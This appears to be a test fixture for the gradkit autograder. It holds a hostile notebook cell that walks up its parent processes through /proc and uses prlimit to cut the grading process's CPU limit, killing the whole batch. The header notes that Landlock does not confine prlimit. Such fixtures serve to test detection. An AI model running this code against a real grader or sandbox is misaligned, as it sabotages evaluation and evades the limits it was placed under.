# sample: honest answers; a cell walks up its ancestors through /proc/<pid>/stat and lowers the CPU-time limit of every ancestor (the zygote and the `gradkit grade` process) with prlimit: Landlock does not confine prlimit and the child runs as root with all capabilities, so the whole batch is killed
# base: ../../../assignments/autograd-basics/samples/solution.py
# expect: q1=0 q2=0 q3=0
# flagged: yes
# honest: q1=2 q2=3 q3=5

# %% after f1
import os
import resource

_pid = os.getppid()
_chain = []
while _pid > 1 and len(_chain) < 3:
    _chain.append(_pid)
    with open(f"/proc/{_pid}/stat") as _f:
        _pid = int(_f.read().rsplit(")", 1)[1].split()[1])
for _pid in _chain[1:2]:
    resource.prlimit(_pid, resource.RLIMIT_CPU, (1, 1))
